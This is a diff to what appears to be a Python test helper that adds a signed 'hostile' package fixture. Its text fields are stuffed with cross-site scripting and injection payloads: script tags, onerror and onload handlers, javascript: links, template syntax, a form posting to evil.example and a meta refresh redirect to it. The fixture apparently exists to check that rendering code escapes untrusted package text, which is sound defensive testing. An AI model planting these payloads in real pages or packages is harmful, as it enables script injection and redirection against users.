@@ -23,6 +23,22 @@ from tinker_engine.recipes.sft import run_sft
 from tinker_engine.recipes.sft_config import SftConfig
 
 STEPS = 20
+ATTACK = "\"><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
+ATTACKING_SKILL = """# <script>document.title='owned'</script>
+
+<img src=x onerror="document.title='owned'"> <iframe src="javascript:alert(1)"></iframe>
+
+[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>)
+![track](https://tracker.example/pixel.png) [a link](https://example.org/a "t")
+
+<style>body{display:none}</style> <form action="https://evil.example"><input name=p></form>
+
+| a | b |
+|---|---|
+| <svg/onload=alert(1)> | `</code><script>x</script>` |
+
+{{ 7*7 }} {% raw %} </div></section><meta http-equiv=refresh content="0;url=//evil.example">
+"""
 
 
 @dataclass(frozen=True)
@@ -98,3 +114,10 @@ def variant(
         raw.update(changes)
 
     return resigned(package, signer, change)
+
+
+def attacking(package: bytes, signer: KeyPair, name: str = "hostile") -> bytes:
+    """A package whose texts attack whoever shows them, and that the gate has nothing against."""
+    return variant(
+        package, signer, name, description="Greets people.", domain=ATTACK, body=ATTACKING_SKILL
+    )
